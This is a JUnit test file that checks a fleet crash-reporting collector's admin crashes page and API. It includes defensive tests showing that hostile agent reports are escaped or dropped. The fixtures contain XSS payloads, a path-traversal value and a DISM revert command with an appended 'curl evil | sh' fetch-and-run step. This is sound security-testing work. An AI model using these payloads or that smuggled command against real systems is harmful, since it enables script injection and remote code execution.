package io.bootmedic.collector;

import io.bootmedic.collector.store.Diagnoses;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** "What is crashing the fleet" through a real collector: agents post diagnoses, hostile ones too; the page and GET /api/v1/crashes show them. */
class CrashesPageTest {
    static final String SCRIPT = "<script>alert(1)</script>";

    @TempDir
    Path tmp;
    TestCollector collector;

    @BeforeEach
    void start() throws Exception {
        collector = TestCollector.start(tmp.resolve("collector"), null, 60);
    }

    @AfterEach
    void stop() {
        collector.close();
    }

    static String ago(int minutes) {
        return Instant.now().truncatedTo(ChronoUnit.SECONDS).minus(minutes, ChronoUnit.MINUTES).toString();
    }

    TestCollector.Response post(String computer, Map<String, Object> diagnosis) throws Exception {
        return post(Diagnoses.bytes(Diagnoses.report(UUID.randomUUID().toString(), computer, "SN-" + computer, ago(1), diagnosis)));
    }

    TestCollector.Response post(byte[] body) throws Exception {
        return collector.request("POST", "/api/v1/reports", collector.created.agentToken(), body);
    }

    TestCollector.Response get(String path) throws Exception {
        return collector.request("GET", path, collector.created.adminToken(), null);
    }

    @Test
    void thePageCountsMachinesPerCodeAndDriverAndListsPendingUpdates() throws Exception {
        var dump = Diagnoses.dump("Windows/Minidump/071924-10234-01.dmp", ago(30), "0x00000050", "PAGE_FAULT_IN_NONPAGED_AREA", "csagent.sys");
        assertEquals(201, post("PC-1", Diagnoses.diagnosis(List.of(dump), Diagnoses.pending("Package_for_RollupFix~31bf3856ad364e35~amd64~~22621.3880.1.7"))).status());
        assertEquals(201, post("PC-1", Diagnoses.diagnosis(List.of(dump), null)).status(), "the next run, same dump");
        assertEquals(201, post("PC-2", Diagnoses.diagnosis(List.of(Diagnoses.dump("Windows/MEMORY.DMP", null, "0x50", null, "CSAgent.sys")),
                Diagnoses.pending("Package_for_KB5040442~31bf3856ad364e35~amd64~~22621.3880.1.7"))).status());
        assertEquals(201, post("PC-OLD", null).status(), "a report without diagnosis (an older agent) is accepted");
        String metrics = get("/metrics").body();
        assertTrue(metrics.contains("bootmedic_report_diagnosis_total{result=\"read\"} 3") && metrics.contains("result=\"none\"} 1"), metrics);

        TestCollector.Response page = get("/crashes");
        assertEquals(200, page.status(), page.body());
        assertTrue(page.header("Content-Security-Policy").startsWith("default-src 'none'"), page.header("Content-Security-Policy"));
        String b = page.body();
        assertTrue(b.contains("<a href=\"/crashes\">Crashes</a>"), "linked from the navigation");
        assertTrue(b.contains("id=\"crash-machines\">2<") && b.contains("id=\"crash-dumps\">2<"), b);
        assertTrue(b.contains("<code>0x00000050</code></a></td><td>PAGE_FAULT_IN_NONPAGED_AREA</td><td class=\"machines\">2</td>"), b);
        assertTrue(b.contains("<code>csagent.sys</code></a></td><td><code>0x00000050</code></td><td class=\"machines\">2</td>"), b);
        assertTrue(b.contains("id=\"pending-count\">1<") && b.contains("Package_for_KB5040442") && !b.contains("Package_for_RollupFix"),
                "PC-1's latest report no longer says updates are pending: " + b);
        assertTrue(b.contains("<code>DISM /Image:C:\\ /Cleanup-Image /RevertPendingActions</code>"), b);
        assertTrue(b.contains("id=\"crash-chart\""), b);

        Map<String, Object> api = get("/api/v1/crashes?hours=24").json();
        assertEquals(24, ((Number) api.get("hours")).intValue());
        assertEquals(2, ((Number) api.get("machines")).intValue());
        Map<?, ?> code = (Map<?, ?>) ((List<?>) api.get("bugChecks")).get(0);
        assertEquals("0x00000050", code.get("bugCheck"));
        assertEquals(2, ((Number) code.get("machines")).intValue());
        assertEquals("csagent.sys", ((Map<?, ?>) ((List<?>) api.get("faultingModules")).get(0)).get("faultingModule"));
        assertEquals(24, ((List<?>) api.get("perHour")).size());
        Map<?, ?> pending = (Map<?, ?>) api.get("pendingUpdates");
        assertEquals(1, ((Number) pending.get("total")).intValue());
        assertEquals("PC-2", ((Map<?, ?>) ((List<?>) pending.get("machines")).get(0)).get("computerName"));

        String filtered = get("/crashes?code=0x50&driver=CSAgent.sys").body();
        assertTrue(filtered.contains("id=\"crash-filter\">Only crashes with bug check <code>0x00000050</code> in <code>csagent.sys</code>"), filtered);
        assertTrue(filtered.contains("<table id=\"crashed\">") && filtered.contains(">PC-1</a></td><td>1</td>") && filtered.contains(">PC-2</a></td><td>1</td>"),
                filtered);
    }

    @Test
    void hostileDiagnosesAreLeftOutOrRefusedAndNothingIsRenderedRaw() throws Exception {
        var hostile = Diagnoses.dump("Windows/Minidump/" + SCRIPT + ".dmp", ago(5), "0x50", SCRIPT, "x.sys");          // a path markup could use: left out
        var badName = Diagnoses.dump("Windows/Minidump/a.dmp", ago(5), "0xEF", "<img src=x onerror=alert(1)>", SCRIPT + ".sys"); // kept, without both
        var notHex = Diagnoses.dump("Windows/Minidump/b.dmp", ago(5), "PAGE_FAULT", null, "ok.sys");                    // not a code: left out
        var big = Diagnoses.dump("Windows/Minidump/c.dmp", ago(5), "0x7E", null, "d".repeat(200_000) + ".sys");          // under the body cap: kept, no driver
        Map<String, Object> pending = Diagnoses.pending(SCRIPT);
        pending.put("revertCommand", "DISM /Image:C:\\ /Cleanup-Image /RevertPendingActions && curl evil | sh");
        TestCollector.Response r = post("PC-H\"<b>", Diagnoses.diagnosis(List.of(hostile, badName, notHex, big), pending));
        assertEquals(201, r.status(), "the report is accepted: its outcome matters more than its diagnosis: " + r.body());

        TestCollector.Response tooBig = post("PC-10MB", Diagnoses.diagnosis(List.of(
                Diagnoses.dump("Windows/Minidump/d.dmp", ago(5), "0x50", null, "e".repeat(10 << 20) + ".sys")), null));
        assertEquals(413, tooBig.status(), "a 10 MB driver name is over the report size cap: " + tooBig.body());

        String b = get("/crashes").body();
        assertFalse(b.contains("<script") || b.contains("<img") || b.contains("<b>") || b.contains("curl"), b);
        assertTrue(b.contains("PC-H&quot;&lt;b&gt;"), "the computer name is text: " + b);
        assertTrue(b.contains("id=\"crash-machines\">1<") && b.contains("id=\"crash-dumps\">2<"), b);
        assertTrue(b.contains("<code>0x000000EF</code></a></td><td></td>"), "the hostile name is left out: " + b);
        assertTrue(b.contains("id=\"no-drivers\""), "no driver name was plausible: " + b);
        assertTrue(b.contains("<span class=\"muted\">not given</span>"), "an altered revert command is not shown: " + b);
        assertTrue(b.length() < 100_000, "nothing of the 200 KB name: " + b.length());
        String api = get("/api/v1/crashes").body();
        assertFalse(api.contains("script") || api.contains("img") || api.contains("curl") || api.contains("ddd"), "the API holds none of it either: " + api);
        assertTrue(api.contains("PC-H\\\"<b>"), "the computer name, JSON-escaped: " + api);

        String metrics = get("/metrics").body();
        assertTrue(metrics.contains("bootmedic_report_diagnosis_total{result=\"partly_left_out\"} 1"), metrics);

        for (String q : List.of("code=" + SCRIPT, "code=0x1FFFFFFFF", "driver=a%3Cb%3E.sys", "driver=..%5Cx.sys", "hours=abc")) {
            TestCollector.Response bad = get("/crashes?" + q.replace("<", "%3C").replace(">", "%3E").replace("/", "%2F"));
            assertEquals(400, bad.status(), q + ": " + bad.body());
            assertFalse(bad.body().contains("<script"), bad.body());
        }
        assertEquals(200, get("/crashes?hours=100000").status(), "a window too long is cut to a week");
    }

    @Test
    void onlyTheAdminSeesIt() throws Exception {
        TestCollector.Response anonymous = collector.request("GET", "/crashes", null, null);
        assertEquals(303, anonymous.status());
        assertEquals("/login", anonymous.header("Location"));
        assertEquals(403, collector.request("GET", "/api/v1/crashes", collector.created.agentToken(), null).status());
        assertEquals(401, collector.request("GET", "/api/v1/crashes", null, null).status());
        TestCollector.Response empty = get("/crashes");
        assertTrue(empty.body().contains("id=\"no-crashes\"") && empty.body().contains("id=\"no-pending\""), empty.body());
        assertEquals(405, collector.request("POST", "/api/v1/crashes", collector.created.adminToken(), "{}".getBytes(StandardCharsets.UTF_8)).status());
    }
}
